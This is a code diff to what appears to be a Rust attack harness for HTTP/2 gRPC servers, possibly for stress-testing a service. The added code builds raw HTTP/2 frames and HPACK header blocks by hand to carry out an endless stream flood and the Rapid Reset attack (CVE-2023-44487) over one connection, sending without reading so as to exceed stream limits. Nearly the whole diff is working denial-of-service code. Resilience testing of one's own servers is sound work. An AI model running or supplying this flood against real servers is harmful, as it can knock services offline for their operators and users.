@@ -21,7 +21,7 @@ const GREETING: &[u8] = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n\x00\x00\x00\x04\x00\x
 /// An attack.
 #[derive(Debug, Clone, Copy, PartialEq, Eq)]
 pub enum Attack {
-    /// As many calls as fit, without reading an answer.
+    /// Calls without end, more of them than a connection may have, without reading an answer.
     StreamFlood,
     /// Calls that are taken back as soon as they are made: CVE-2023-44487.
     RapidReset,
@@ -109,6 +109,20 @@ impl Attack {
                 while stream.read(&mut dump).await? != 0 {}
                 return Ok(());
             }
+            Self::StreamFlood => {
+                return calls(address, |id, flood| {
+                    flood.extend(frame(0x1, 0x4, id, &headers(GET, id == 1)));
+                    flood.extend(frame(0x0, 0x1, id, &message(b"\x0a\x11bolts/m12-109-40x")));
+                })
+                .await;
+            }
+            Self::RapidReset => {
+                return calls(address, |id, flood| {
+                    flood.extend(frame(0x1, 0x4, id, &headers(GET, id == 1)));
+                    flood.extend(frame(0x3, 0x0, id, &u32::from(Reason::CANCEL).to_be_bytes()));
+                })
+                .await;
+            }
             Self::HugeHeaders if number.is_multiple_of(2) => return hpack_bomb(address).await,
             _ => {}
         }
@@ -131,14 +145,6 @@ impl Attack {
         loop {
             sender = sender.ready().await?;
             match self {
-                Self::StreamFlood => {
-                    let (_, mut body) = sender.send_request(request(GET), false)?;
-                    body.send_data(message(b"\x0a\x11bolts/m12-109-40x"), true)?;
-                }
-                Self::RapidReset => {
-                    let (_, mut body) = sender.send_request(request(GET), false)?;
-                    body.send_reset(Reason::CANCEL);
-                }
                 Self::SlowReaders => {
                     // A page of a thousand entries, and all of the book as a stream.
                     let (path, asked): (_, &[u8]) =
@@ -241,6 +247,50 @@ fn message(bytes: &[u8]) -> Bytes {
     whole.extend(u32::try_from(bytes.len()).expect("it is short").to_be_bytes());
     whole.extend(bytes);
     whole.into()
+}
+
+/// A frame, RFC 9113 section 4.1.
+fn frame(kind: u8, flags: u8, stream: u32, payload: &[u8]) -> Vec<u8> {
+    let mut frame = u32::try_from(payload.len()).expect("it is short").to_be_bytes()[1..].to_vec();
+    frame.extend([kind, flags]);
+    frame.extend(stream.to_be_bytes());
+    frame.extend(payload);
+    frame
+}
+
+/// The headers of a call: the first time in full, which puts them into the table of HPACK; then by their numbers there.
+fn headers(path: &str, first: bool) -> Vec<u8> {
+    if !first {
+        return vec![0x83, 0x86, 0xc1, 0xc0, 0xbf, 0xbe];
+    }
+    let mut block = vec![0x83, 0x86];
+    // :path, :authority, content-type and te, RFC 7541 section 6.2.1; the first three have names in the static table.
+    for (name, value) in
+        [(&[0x44][..], path), (&[0x41], "here"), (&[0x5f], "application/grpc"), (b"\x40\x02te", "trailers")]
+    {
+        block.extend(name);
+        block.push(u8::try_from(value.len()).expect("it is short"));
+        block.extend(value.as_bytes());
+    }
+    block
+}
+
+/// Makes calls for ever out of prepared frames, reading nothing.
+async fn calls(
+    address: SocketAddr,
+    one: impl Fn(u32, &mut Vec<u8>),
+) -> Result<(), Box<dyn std::error::Error + Send + Sync>> {
+    let mut stream = TcpStream::connect(address).await?;
+    stream.write_all(GREETING).await?;
+    for first in (1_u32..).step_by(200) {
+        let mut flood = Vec::new();
+        for id in (first..first + 200).step_by(2) {
+            one(id, &mut flood);
+        }
+        stream.write_all(&flood).await?;
+        tokio::task::yield_now().await;
+    }
+    Ok(())
 }
 
 /// Sends one frame for ever, reading nothing.
